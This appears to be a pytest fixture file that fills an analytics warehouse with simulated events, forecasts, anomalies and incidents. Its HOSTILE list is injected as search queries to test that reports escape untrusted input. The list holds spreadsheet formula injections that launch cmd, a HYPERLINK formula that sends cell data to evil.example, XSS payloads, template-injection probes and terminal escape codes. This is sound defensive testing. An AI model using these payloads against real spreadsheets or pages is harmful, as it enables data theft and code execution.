"""A warehouse as all stages leave it: simulated events through ingest and dbt, and predictions by hand."""

import json
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import psycopg
import pytest
from psycopg.types.json import Jsonb

from orchestration.ingest import loader
from orchestration.simulate.simulator import simulate
from orchestration.warehouse import database

ZONE = ZoneInfo("Europe/Berlin")
FIRST, LAST = date(2026, 3, 2), date(2026, 3, 8)  # the newest complete week, 2026-W10
PREDICTIONS = """
create or replace view api.forecasts as select * from ml.forecasts;
create or replace view api.models as select * from ml.models;
create or replace view api.anomalies as select *, series_id as metric, 'all' as segment from ml.anomalies;
create or replace view api.churn_scores as select * from ml.churn_scores;
"""


@pytest.fixture
def published(begin_with, warehouse, dbt, tmp_path) -> psycopg.Connection:
    """A connection to a warehouse in which every template has something to say."""
    begin_with("reported", lambda: _fill(dbt, tmp_path))
    with psycopg.connect(warehouse, autocommit=True) as connection:
        yield connection


# What came in through the properties of events in other people's products: formulas, markup, templates, terminals.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    '#import "@preview/evil:1.0.0": *',
    "$x$ `a` *b* _c_ \\ <b>&amp;</b>",
    "\u202egnp.exe",
    "\x1b[31mred\x07",
    "x" * 200,  # more of a search is not kept
]


def _hostile_events() -> Iterator[dict]:
    """Three searches without result for each: a gap in the content, which its report names."""
    for number, words in enumerate(HOSTILE):
        for repeat in range(3):
            yield {
                "event_id": f"hostile-{number}-{repeat}",
                "event_type": "content_searched",
                "occurred_at": at(LAST, 9 + repeat).isoformat(),
                "user_id": "u-hostile",
                "session_id": f"s-{number}",
                "properties": {"query": words, "results_count": 0},
            }


def _fill(dbt, folder) -> None:
    simulate(folder / "sample", start=date(2026, 2, 2), days=36, events=6_000, incidents=False)
    for path in sorted((folder / "sample").glob("*.jsonl")):
        path.write_text(path.read_text().replace('"skill":', '"class_id": "7b", "skill":'))
    with database.connect() as connection:
        database.sync_tenant(connection)
    (folder / "sample" / "hostile.jsonl").write_text("".join(json.dumps(event) + "\n" for event in _hostile_events()))
    loader.ingest("native", sorted((folder / "sample").glob("*.jsonl")))
    with database.connect() as connection:
        (newest,) = connection.execute("select max(load_id) from raw.loads").fetchone()
    dbt.build("staging marts published", newest)
    with database.connect() as connection:
        connection.execute(PREDICTIONS)
        _fill_learned(connection)
        _fill_incidents(connection)


def at(day: date, hour: int = 0) -> datetime:
    """An hour of the tenant's clock, in UTC."""
    return datetime(day.year, day.month, day.day, hour, tzinfo=ZONE).astimezone(UTC)


def _fill_learned(connection: psycopg.Connection) -> None:
    models = {
        "forecast_revenue": ("MASE", "lower", 0.7134, 1.021, "seasonal naive"),
        "anomalies_hourly": ("F1", "higher", 0.9048, 0.5217, "three standard deviations"),
        "churn": ("Brier score", "lower", 0.1924, 0.1524, "days since last seen alone"),
    }
    keys = ("measure", "better", "value", "baseline", "baseline_name")
    for name, measured in models.items():
        metrics = dict(zip(keys, measured, strict=True)) | {"tested_on": "3 windows of 28 days"}
        metrics |= {"coverage": {"80": 0.8131, "95": 0.9412}} if name == "forecast_revenue" else {}
        connection.execute(
            """insert into ml.models
                   (model_id, name, version, stage, metrics, load_id, data_hash, parameters, libraries)
               values (%s, %s, 3, 'serving', %s, 12, 'x', '{}', '{}')""",
            [f"{name}-3", name, Jsonb(metrics)],
        )
    for ahead in range(1, 29):
        yhat = 73.0 + 10 * (ahead % 7)
        connection.execute(
            "insert into ml.forecasts values ('revenue', %s, %s, %s, %s, %s, %s, 'forecast_revenue-3', 12)",
            [at(LAST + timedelta(days=ahead)), yhat, yhat - 20, yhat + 20, yhat - 35, yhat + 35],
        )
    for series, moment, value in (("error_rate", at(date(2026, 3, 5), 14), 0.083), ("revenue", at(FIRST, 11), 12.5)):
        connection.execute(
            "insert into ml.anomalies values (%s, %s, %s, 0.95, true, 0.0042, 0.001, 0.0095, 'anomalies_hourly-3', 12)",
            [series, moment, value],
        )


def _fill_incidents(connection: psycopg.Connection) -> None:
    incidents = [
        ("errors", "error_rate", "critical", "resolved", at(date(2026, 3, 5), 14), at(date(2026, 3, 5), 17), 0.083,
         "Error rate was 8.30 % in the hour from 14:00, above the limit of 2 %."),
        ("rooms", "rooms_matched", "warning", "open", at(date(2026, 3, 7), 21), None, 1,
         "Rooms matched was 1 in the hour from 21:00, where 4 to 15 was expected."),
    ]  # fmt: skip
    for rule, metric, severity, status, opened, resolved, value, detail in incidents:
        connection.execute(
            """insert into ops.incidents
                   (rule, fingerprint, metric, segment, severity, status, opened_hour, resolved_hour, value, detail)
               values (%s, %s, %s, 'all', %s, %s, %s, %s, %s, %s)""",
            [rule, f"{rule}|{metric}|all", metric, severity, status, opened, resolved, value, detail],
        )


@pytest.fixture
def hold(published) -> Callable[..., None]:
    """Makes the gate of a table fail: `hold(table, sentence)` holds it back from then on."""

    def hold(table: str = "marts.shop_hourly", sentence: str = "3 rows have a negative price") -> None:
        published.execute(
            """insert into ops.gate_results (table_name, run_id, load_id, status, hours_checked, rows_checked, results,
                   evaluated_at)
               values (%s, 'run', 13, 'failed', 24, 480, %s, '2026-03-09 05:10+00')""",
            [table, Jsonb([{"says": sentence, "severity": "error", "success": False}])],
        )

    return hold
